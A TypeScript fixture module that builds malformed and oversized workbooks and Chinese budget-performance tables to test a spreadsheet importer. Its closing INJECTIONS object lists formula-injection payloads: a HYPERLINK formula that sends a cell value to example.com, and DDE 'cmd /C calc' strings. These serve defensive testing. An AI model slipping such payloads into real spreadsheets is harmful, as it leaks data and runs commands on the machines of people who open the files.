/**
 * The bad-input corpus of issue 7, generated (no binary fixtures are committed): files that are not
 * workbooks at all, workbooks past the size limits, and workbooks with the awkward content finance
 * staff really send. `test/unit/bad-inputs.test.ts` states what each must give.
 */
import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { newWorkbook, putAll, type FixtureCell } from "../fixtures/workbook";
import { bytesOf, Package } from "./packages";

/** Deterministic noise that starts like no known file format. */
export function noise(length: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = 0x2545f491;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  out[0] = 0x00;
  out[1] = 0x9c;
  return out;
}

const CFB_SIGNATURE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

function utf16le(s: string): number[] {
  return [...s].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8]);
}

/**
 * A compound file (OLE2) with one directory sector naming the given streams, the way an .xls holds
 * `Workbook` and an encrypted .xlsx holds `EncryptionInfo` and `EncryptedPackage`.
 */
export function compoundFile(streams: string[]): Uint8Array {
  const header = new Uint8Array(512);
  header.set(CFB_SIGNATURE, 0);
  header.set([0x3e, 0x00, 0x03, 0x00, 0xfe, 0xff, 0x09, 0x00], 24); // minor/major version, byte order, sector shift
  const directory = new Uint8Array(512);
  ["Root Entry", ...streams].slice(0, 4).forEach((name, i) => {
    const entry = utf16le(name);
    directory.set(entry, i * 128);
    directory[i * 128 + 64] = entry.length + 2;
    directory[i * 128 + 66] = i === 0 ? 5 : 2;
  });
  const out = new Uint8Array(header.length + directory.length + 512);
  out.set(header, 0);
  out.set(directory, 512);
  return out;
}

export const CSV_TEXT = "项目编码,项目名称,预算数\n13062522P00459810061C,2022年利息收入,1.75\n";

/** The same list as WPS and Excel save a CSV in China: GBK-encoded. */
export function gbkCsv(): Uint8Array {
  return new Uint8Array(iconv.encode(CSV_TEXT, "gbk"));
}

export interface TableSpec {
  code?: FixtureCell;
  name?: FixtureCell;
  total?: FixtureCell;
  fiscal?: FixtureCell;
  other?: FixtureCell;
  usage?: FixtureCell;
  june?: FixtureCell;
  december?: FixtureCell;
  goals?: FixtureCell;
  /** Rows of 一级, 二级, 三级, 描述, 指标值, 依据. */
  indicators?: FixtureCell[][];
}

export const DEFAULT_INDICATORS: FixtureCell[][] = [
  ["产出指标", "数量指标", "系统运维次数", "全年运维次数", "≥12次", "工作计划"],
  ["产出指标", "质量指标", "系统可用率", "系统全年可用率", "≥99%", "行业标准"],
  ["效益指标", "社会效益指标", "群众办事效率", "办事时间缩短", "≥10%", "历史标准"],
  ["满意度指标", "服务对象满意度指标", "使用人员满意度", "抽样调查满意度", "≥90%", "历史标准"],
];

/**
 * A form-layout table at row `top`, columns A:F: unit line, code, name, funds, usage, plan
 * (6月底, 12月底), goals, then the indicator block. Returns the row after it.
 */
export function putTable(ws: ExcelJS.Worksheet, top: number, spec: TableSpec = {}): number {
  const r = (n: number): number => top + n;
  const indicators = spec.indicators ?? DEFAULT_INDICATORS;
  putAll(ws, {
    [`A${r(0)}`]: "330102杭州市某局本级",
    [`F${r(0)}`]: "单位：万元",
    [`A${r(1)}`]: "项目编码",
    [`B${r(1)}:F${r(1)}`]: spec.code ?? "33010223P00000000001A",
    [`A${r(2)}`]: "项目名称",
    [`B${r(2)}:F${r(2)}`]: spec.name ?? "政务信息系统运维",
    [`A${r(3)}`]: "预算数",
    [`B${r(3)}:F${r(3)}`]: spec.total ?? 36,
    [`A${r(4)}`]: "其中：财政资金",
    [`B${r(4)}:F${r(4)}`]: spec.fiscal ?? 36,
    [`A${r(5)}`]: "其他资金",
    [`B${r(5)}:F${r(5)}`]: spec.other ?? null,
    [`A${r(6)}`]: "资金用途",
    [`B${r(6)}:F${r(6)}`]: spec.usage ?? "用于政务信息系统运行维护",
    [`A${r(7)}:A${r(8)}`]: "资金支出计划（%）",
    [`B${r(7)}`]: "6月底",
    [`C${r(7)}:F${r(7)}`]: "12月底",
    [`B${r(8)}`]: spec.june ?? 50,
    [`C${r(8)}:F${r(8)}`]: spec.december ?? 100,
    [`A${r(9)}`]: "绩效目标",
    [`B${r(9)}:F${r(9)}`]: spec.goals ?? "保障系统全年稳定运行",
    [`A${r(10)}`]: "一级指标",
    [`B${r(10)}`]: "二级指标",
    [`C${r(10)}`]: "三级指标",
    [`D${r(10)}`]: "绩效指标描述",
    [`E${r(10)}`]: "指标值",
    [`F${r(10)}`]: "指标值确定依据",
  });
  indicators.forEach((row, i) => {
    const at = r(11 + i);
    row.forEach((v, j) => putAll(ws, { [`${"ABCDEF"[j]}${at}`]: v }));
  });
  return r(11 + indicators.length);
}

export async function workbookWith(build: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = newWorkbook();
  build(wb);
  return bytesOf(wb);
}

/** A one-table workbook: the base of several corpus entries. */
export function oneTable(spec: TableSpec = {}, sheet = "项目表"): Promise<Uint8Array> {
  return workbookWith((wb) => putTable(wb.addWorksheet(sheet), 1, spec));
}

/** A package whose workbook lists no sheets at all. */
export async function zeroSheets(): Promise<Uint8Array> {
  const p = await Package.open(await oneTable());
  await p.editPart("xl/workbook.xml", (x) => x.replace(/<sheets>[\s\S]*<\/sheets>/, "<sheets/>"));
  return p.bytes();
}

/**
 * A sheet of `rows` rows and 3 columns with an honest `<dimension>`, the rows streamed into the XML
 * without ExcelJS (building a million rows through it would take minutes).
 */
export async function manyRows(rows: number): Promise<Uint8Array> {
  const p = await Package.open(await oneTable());
  const part = await p.sheetPart("项目表");
  const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><dimension ref="A1:C${rows}"/><sheetData>`;
  const chunks: string[] = [head];
  for (let r = 1; r <= rows; r++) chunks.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c></row>`);
  chunks.push("</sheetData></worksheet>");
  p.zip.file(part, Buffer.from(chunks.join(""), "utf8"), { compression: "STORE" });
  return p.bytes();
}

/**
 * A small sheet whose XML states a different extent than its cells have: `dimension` (or none),
 * with cells at A1 and at `farCell`.
 */
export async function statedExtent(dimension: string | null, farCell: string): Promise<Uint8Array> {
  const p = await Package.open(await oneTable());
  const part = await p.sheetPart("项目表");
  const far = /^([A-Z]+)(\d+)$/.exec(farCell)!;
  p.zip.file(
    part,
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
      (dimension ? `<dimension ref="${dimension}"/>` : "") +
      `<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="${far[2]}"><c r="${farCell}"><v>2</v></c></row></sheetData></worksheet>`,
  );
  return p.bytes();
}

/** One string of a mebibyte (1,048,576 characters), Chinese text with a few line breaks. */
export function megaString(seed: string): string {
  const unit = `${seed}，用于保障日常运行和信息系统维护。\n`;
  return unit.repeat(Math.ceil((1 << 20) / unit.length)).slice(0, 1 << 20);
}

/** Text that a spreadsheet program would run as a formula if it were written as one. */
export const INJECTIONS = {
  name: '=HYPERLINK("http://example.com/x?d="&A1,"点击查看")',
  description: "@SUM(1+1)*cmd|' /C calc'!A0",
  goals: "+cmd|' /C calc'!A0",
  level3: "-2+3+cmd|' /C calc'!A0",
  basis: "=1+1",
};
